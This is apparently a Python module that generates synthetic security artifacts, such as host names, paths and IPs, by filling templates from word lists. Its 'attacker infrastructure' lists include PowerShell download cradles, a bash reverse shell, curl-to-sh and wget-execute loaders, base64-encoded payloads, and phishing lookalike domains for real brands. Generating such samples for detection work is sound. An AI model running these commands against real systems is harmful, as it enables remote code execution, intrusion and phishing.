"""The template machinery every artifact shares: random parts and words, and `fill`, which puts them into templates.

A template names a part as {name}: a word list in WORDS (whose entries may hold parts themselves) or a generator
in GENERATED (numbers, IPs, GUIDs, random strings, base64 payloads). Words only URLs use live in url.py.
"""

from __future__ import annotations

import base64
import json
import random
import re
import string
from collections.abc import Callable


def _digits(n: int) -> Callable[[random.Random], str]:
    return lambda rng: str(rng.randint(10 ** (n - 1), 10**n - 1))


def _chars(alphabet: str, n: int) -> Callable[[random.Random], str]:
    return lambda rng: "".join(rng.choices(alphabet, k=n))


def _encoded(words: str, encoding: str) -> Callable[[random.Random], str]:
    return lambda rng: base64.b64encode(fill("{" + words + "}", rng).encode(encoding)).decode()


def _ip_public(rng: random.Random) -> str:
    first = rng.choice((5, 23, 31, 37, 45, 46, 62, 77, 79, 91, 94, 103, 104, 107, 141, 146, 159, 176, 178,
                        185, 188, 193, 194, 195, 212, 217))
    return f"{first}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def _ip_internal(rng: random.Random) -> str:
    return rng.choice((f"10.{rng.randint(0, 40)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
                       f"192.168.{rng.randint(0, 20)}.{rng.randint(1, 254)}",
                       f"172.{rng.randint(16, 31)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"))


def _guid(rng: random.Random) -> str:
    hexes = [_chars("0123456789abcdef", n)(rng) for n in (8, 4, 4, 4, 12)]
    return "-".join(hexes)


def _json_config(rng: random.Random) -> str:
    config = {"env": rng.choice(WORDS["env"]), "replicas": rng.randint(1, 6), "region": "eu-west-1"}
    return base64.b64encode(json.dumps(config).encode()).decode()


LOWER = string.ascii_lowercase
ALNUM = string.ascii_letters + string.digits

GENERATED: dict[str, Callable[[random.Random], str]] = {
    "ip_public": _ip_public,
    "ip_internal": _ip_internal,
    "n": lambda rng: str(rng.randint(2, 30)),
    "n3": _digits(3),
    "n4": _digits(4),
    "n8": _digits(8),
    "n12": _digits(12),
    "n18": _digits(18),
    "pid": lambda rng: str(rng.randint(400, 15000)),
    "year": lambda rng: str(rng.randint(2019, 2025)),
    "mm": lambda rng: f"{rng.randint(1, 12):02d}",
    "dd": lambda rng: f"{rng.randint(1, 28):02d}",
    "nn": lambda rng: f"{rng.randint(1, 24):02d}",
    "ver": lambda rng: f"{rng.randint(0, 9)}.{rng.randint(0, 30)}.{rng.randint(0, 12)}",
    "rand": lambda rng: _chars(LOWER, rng.randint(5, 9))(rng),
    "hex8": _chars("0123456789abcdef", 8),
    "hex32": _chars("0123456789abcdef", 32),
    "git_sha": _chars("0123456789abcdef", 7),
    "short": _chars(ALNUM, 7),
    "paste_id": _chars(ALNUM, 8),
    "yt_id": _chars(ALNUM + "-_", 11),
    "asin": lambda rng: "B0" + _chars(string.ascii_uppercase + string.digits, 8)(rng),
    "cid": lambda rng: "bafybei" + _chars("abcdefghijklmnopqrstuvwxyz234567", 52)(rng),
    "wallet": lambda rng: "4" + _chars("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz", 94)(rng),
    "tg_token": lambda rng: f"{_digits(10)(rng)}:AA{_chars(ALNUM, 33)(rng)}",
    "guid": _guid,
    "guid_braced": lambda rng: "{" + _guid(rng).upper() + "}",
    "bcd_entry": lambda rng: rng.choice(("{default}", "{current}")),
    "b64_ps": _encoded("ps_cradle", "utf-16-le"),
    "b64_ps_admin": _encoded("ps_admin", "utf-16-le"),
    "b64_sh": _encoded("sh_payload", "utf-8"),
    "b64_config": _json_config,
    "b64_key": _chars(ALNUM + "+/", 68),
}

WORDS: dict[str, tuple[str, ...]] = {
    # people, machines, places
    "user": ("alice", "bob", "jdoe", "mchen", "priya.s", "kwilson", "lnguyen", "tgarcia", "rsingh", "emma.k",
             "oscar", "dmitri", "fatima", "svc_backup", "svc_deploy", "admin", "devops", "build"),
    "host": ("{role}-{env}-{nn}", "{role}{nn}", "ws-{dept_short}-{n3}"),
    "role": ("web", "db", "app", "build", "api", "cache", "mq", "fs", "jump", "log", "k8s-node"),
    "env": ("dev", "staging", "prod", "qa"),
    "dept": ("Finance", "HR", "Engineering", "Marketing", "Legal", "Sales"),
    "dept_short": ("fin", "hr", "eng", "mkt", "legal", "sales"),
    "corp_domain": ("corp.contoso.com", "ad.fabrikam.local", "northwind.internal", "tailspin.lan"),
    "corp_short": ("CONTOSO", "FABRIKAM", "NORTHWIND", "TAILSPIN"),
    "fileserver": ("fs-01", "fs-02", "nas01", "files.{corp_domain}"),
    "share": ("Public", "Projects", "Finance", "HR", "Engineering", "deploy", "Scans"),
    "site": ("intranet", "wiki", "shop", "status", "grafana", "jenkins", "portal"),
    "corp_site": ("{site}.{corp_domain}",),
    "printer": ("HP-LaserJet-2F", "Canon-Finance", "Xerox-Lobby"),
    # development
    "org": ("contoso", "fabrikam-dev", "northwind-labs", "tailspin-oss", "kubernetes", "psf", "hashicorp"),
    "repo": ("billing-api", "web-frontend", "infra", "data-pipeline", "auth-service", "docs", "mobile-app",
             "ml-models", "terraform-modules", "ops-scripts", "etl-jobs", "helm-charts"),
    "branch": ("main", "develop", "master", "feature/{jira}", "fix/{jira}-{slug}", "release/{ver}"),
    "jira": ("OPS-{n3}", "PAY-{n3}", "WEB-{n4}", "INFRA-{n3}", "DATA-{n3}"),
    "slug": ("login-timeout", "retry-logic", "null-check", "bump-deps", "cache-headers", "flaky-test"),
    "commit_msg": ("Fix {slug}", "Add retries to the {component}", "Bump {pip_pkg} to {ver}", "Refactor {component}",
                   "Update README", "WIP", "Merge branch {branch}"),
    "component": ("billing service", "auth middleware", "CI pipeline", "API client", "config loader"),
    "lin_dir": ("/home/{user}/{repo}", "/srv/{repo}", "/var/www/{site}", "/opt/{repo}", "/data/{repo}/exports",
                "~/projects/{repo}"),
    "lin_file": ("{lin_dir}/{fname}.{ext}",),
    "fname": ("config", "main", "app", "report", "settings", "index", "utils", "backup", "data", "notes"),
    "ext": ("py", "log", "json", "yaml", "csv", "txt", "md", "conf", "sh", "sql"),
    "win_dir": (r"C:\Users\{user}\Documents", r"C:\Users\{user}\Downloads", r"D:\Data\{dept}",
                r"C:\Projects\{repo}", r"C:\inetpub\wwwroot\{site}", r"\\{fileserver}\{share}\{dept}"),
    "win_file": (r"{win_dir}\{fname}.{win_ext}",),
    "win_ext": ("docx", "xlsx", "pdf", "csv", "log", "txt", "zip", "msi"),
    "svc": ("nginx", "docker", "sshd", "postgresql", "redis-server", "cron", "kubelet", "node-exporter", "haproxy"),
    "winsvc": ("Spooler", "wuauserv", "W32Time", "BITS", "WinRM", "MSSQLSERVER", "W3SVC", "Dnscache"),
    "svc_port": ("22", "80", "443", "3306", "5432", "6379", "8080", "8443", "9090", "9200"),
    "ns": ("default", "prod", "staging", "monitoring", "payments", "kube-system", "ingress-nginx"),
    "deploy": ("billing-api", "web", "worker", "auth-service", "redis", "prometheus", "grafana", "scheduler"),
    "image": ("nginx:1.25", "postgres:16", "redis:7-alpine", "python:3.11-slim", "node:20-alpine",
              "ghcr.io/{org}/{repo}:{ver}", "registry.{corp_domain}/{repo}:{git_sha}"),
    "pip_pkg": ("requests", "numpy", "pandas", "flask", "django", "pytest", "black", "boto3", "sqlalchemy",
                "pydantic", "fastapi", "uvicorn"),
    "npm_pkg": ("react", "express", "lodash", "typescript", "eslint", "vite", "jest", "axios", "prettier"),
    "apt_pkg": ("nginx", "postgresql-client", "htop", "jq", "git", "build-essential", "unzip", "tmux"),
    "brew_pkg": ("jq", "wget", "kubectl", "terraform", "node", "python@3.11", "gnupg", "htop"),
    "tool": ("kubectl", "helm", "terraform", "k9s", "yq", "ripgrep", "gh", "golangci-lint"),
    "vendor": ("zoom", "slack", "adobe", "jetbrains", "docker", "hashicorp", "elastic", "grafana"),
    "app": ("Zoom", "Slack", "AcrobatReader", "Teams", "Chrome", "Firefox", "7zip", "VSCode", "Git"),
    "app_exe": ("chrome.exe", "Teams.exe", "OUTLOOK.EXE", "EXCEL.EXE", "slack.exe", "Zoom.exe", "java.exe"),
    "winget_id": ("Microsoft.VisualStudioCode", "Git.Git", "7zip.7zip", "Mozilla.Firefox", "Python.Python.3.11",
                  "Docker.DockerDesktop"),
    "cert": ("server", "ca-root", "wildcard-{site}", "client-{user}", "{site}"),
    "script": ("deploy", "backup", "cleanup_logs", "rotate_keys", "sync_users", "healthcheck", "build",
               "migrate", "map_drives", "install_agent"),
    "benign_task": ("BackupNightly", r"\Microsoft\Windows\Defrag\ScheduledDefrag", "{app}UpdateTask",
                    "Cleanup {dept} Share", "ReportExport"),
    "sed_pair": ("localhost/db.{corp_domain}", "DEBUG=True/DEBUG=False", "http:/https:", "{ver}/{ver}"),
    "ps_admin": (r"Get-WmiObject -Namespace root\ccm -Class SMS_Client | Select-Object ClientVersion",
                 r"Get-ItemProperty HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall\* | "
                 "Select-Object DisplayName, DisplayVersion",
                 "Get-Service {winsvc} | Select-Object Status", "[Environment]::OSVersion.Version.ToString()",
                 "Get-CimInstance Win32_LogicalDisk | Select-Object DeviceID, FreeSpace",
                 r"Test-Path 'C:\Program Files\{app}'"),
    # attacker infrastructure
    "port": ("4444", "443", "8080", "1337", "9001", "53", "8443", "4443", "6666", "5555", "1234", "9999"),
    "web_port": ("80", "8080", "8000", "8888", "81"),
    "bad_domain": ("{bad_word}{bad_word}.{bad_tld}", "{bad_word}-{bad_word}.{bad_tld}", "{rand}.{bad_tld}"),
    "bad_word": ("update", "cdn", "secure", "cloud", "files", "static", "api", "sync", "mail", "office", "drive",
                 "docs", "service", "host", "data", "win", "micro", "soft"),
    "bad_tld": ("xyz", "top", "ru", "info", "online", "site", "club", "live", "icu", "su", "biz", "cc"),
    "bad_path": ("wp-content/uploads/{year}/{mm}", "images", "files", "dl", "cdn", "admin/js", "tmp"),
    "drop": ("svchost", "update", "winupdate", "chrome_update", "OneDriveSync", "msedge_helper", "{rand}",
             "invoice_{n3}", "scan_{n3}", "Document", "payload", "stage2", "agent"),
    "payload_url_exe": ("http://{ip_public}/{drop}.exe", "http://{ip_public}:{web_port}/{drop}.exe",
                        "https://{bad_domain}/{bad_path}/{drop}.exe", "http://{bad_domain}/{drop}.bin"),
    "payload_url_ps1": ("http://{ip_public}/{drop}.ps1", "https://{bad_domain}/{bad_path}/{drop}.ps1",
                        "https://raw.githubusercontent.com/{rand}/{rand}/main/{drop}.ps1",
                        "https://pastebin.com/raw/{paste_id}"),
    "payload_url_sct": ("http://{ip_public}/{drop}.sct", "https://{bad_domain}/{drop}.sct"),
    "payload_url_hta": ("http://{ip_public}/{drop}.hta", "https://{bad_domain}/{bad_path}/{drop}.hta"),
    "payload_url_sh": ("http://{ip_public}/{sh_name}", "http://{ip_public}:{web_port}/{sh_name}",
                       "https://{bad_domain}/{sh_name}"),
    "payload_url_bin": ("http://{ip_public}/{bin_name}", "http://{ip_public}:{web_port}/bins/{bin_name}"),
    "sh_name": ("bins.sh", "x.sh", "i.sh", "1.sh", "install.sh", "setup.sh", "ldr.sh", "{rand}.sh"),
    "tmp_name": ("{rand}",),
    "job": ("{rand}", "update", "WindowsUpdate{n3}", "sync"),
    "bin_name": ("x86", "mips", "arm7", "kinsing", "kdevtmpfsi", ".x", "{rand}"),
    "win_drop_dir": (r"C:\Users\{user}\AppData\Local\Temp", r"C:\ProgramData", r"C:\Users\Public", "%TEMP%",
                     r"%APPDATA%\Microsoft", r"C:\Windows\Temp", r"C:\Users\{user}\AppData\Roaming\{rand}"),
    "win_drop_exe": (r"{win_drop_dir}\{drop}.exe",),
    "win_drop_dll": (r"{win_drop_dir}\{drop}.dll",),
    "dll_export": ("DllRegisterServer", "Start", "Run", "EntryPoint", "#1", "StartW"),
    "mal_task": ("WindowsUpdateCheck", "GoogleUpdateTaskMachineQC", "OneDrive Standalone Update Task",
                 "SystemHealthMonitor", "MicrosoftEdgeUpdateCore", "{rand}"),
    "mal_user": ("support", "helpdesk1", "backup$", "adm_{rand}", "sqladmin", "{user}2"),
    "password": ("P@ssw0rd{n}", "Winter2024!", "{rand}{n}!", "Passw0rd!", "Welcome{n3}"),
    "pool": ("pool.minexmr.com", "xmr.{bad_domain}", "{ip_public}", "gulf.moneroocean.stream"),
    "pool_port": ("3333", "4444", "5555", "14444", "443"),
    "ssh_key": ("ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ{b64_key} {attacker_id}",),
    "attacker_id": ("root@kali", "user@localhost", "x@x", "{rand}@{rand}"),
    "ps_cradle": ("IEX (New-Object Net.WebClient).DownloadString('{payload_url_ps1}')",
                  "iex(iwr '{payload_url_ps1}' -UseBasicParsing)",
                  "(New-Object Net.WebClient).DownloadFile('{payload_url_exe}','{win_drop_exe}');"
                  "Start-Process '{win_drop_exe}'",
                  "$c=New-Object Net.Sockets.TCPClient('{ip_public}',{port});$s=$c.GetStream()",
                  "Start-Process -WindowStyle Hidden -FilePath '{win_drop_exe}'"),
    "sh_payload": ("bash -i >& /dev/tcp/{ip_public}/{port} 0>&1", "curl -fsSL {payload_url_sh} | sh",
                   "wget -q -O /tmp/.{tmp_name} {payload_url_bin} && chmod +x /tmp/.{tmp_name} && /tmp/.{tmp_name}",
                   "nohup /tmp/{bin_name} >/dev/null 2>&1 &"),
    # the web: lookalike domains and the like, in URLs and in HTML pages
    "section": ("technology", "world", "business", "science", "sport", "culture", "security"),
    "tenant": ("contoso", "fabrikam", "northwind", "tailspintoys", "woodgrove"),
    "brand": ("paypal", "microsoft", "office365", "outlook", "apple", "icloud", "netflix", "amazon", "chase",
              "wellsfargo", "bankofamerica", "dhl", "docusign", "dropbox", "linkedin", "instagram", "facebook",
              "adobe", "coinbase", "metamask", "usps", "fedex"),
    "brand_typo": ("paypa1", "rnicrosoft", "micr0soft", "app1e", "arnazon", "netfl1x", "linkedln", "faceb00k",
                   "dropb0x", "docusiqn", "wellsfarqo", "coinbasse"),
    "lure_word": ("secure", "verify", "login", "account", "update", "support", "auth", "signin", "billing",
                  "service", "confirm", "recovery", "unlock", "alert", "help"),
    "any_tld": ("com", "net", "org", "xyz", "top", "info", "online", "app", "site", "live"),
    "lookalike": ("{brand}-{lure_word}.{bad_tld}", "{lure_word}-{brand}.{any_tld}", "{brand_typo}.{any_tld}",
                  "{brand}.com.{lure_word}-{rand}.{bad_tld}", "{brand}{lure_word}{n}.com",
                  "secure{n}-{brand}.{bad_tld}",
                  "{lure_word}.{brand}-{lure_word}.{any_tld}"),
}

_SLOT = re.compile(r"(?<!\$)\{([a-z][a-z0-9_]*)\}")
# A dropped file, a tool or an account named twice in one command line is the same one each time.
STICKY = frozenset({"tmp_name", "bin_name", "win_drop_exe", "win_drop_dll", "mal_user", "job", "tool"})


def fill(template: str, rng: random.Random, memo: dict[str, str] | None = None) -> str:
    """Replaces every {name} with a random word of that name (or a generated value), recursively; `memo`
    keeps the sticky parts of one artifact."""
    memo = {} if memo is None else memo

    def part(match: re.Match) -> str:
        name = match.group(1)
        if name in memo:
            return memo[name]
        value = fill(rng.choice(WORDS[name]), rng, memo) if name in WORDS else GENERATED[name](rng)
        if name in STICKY:
            memo[name] = value
        return value
    return _SLOT.sub(part, template)

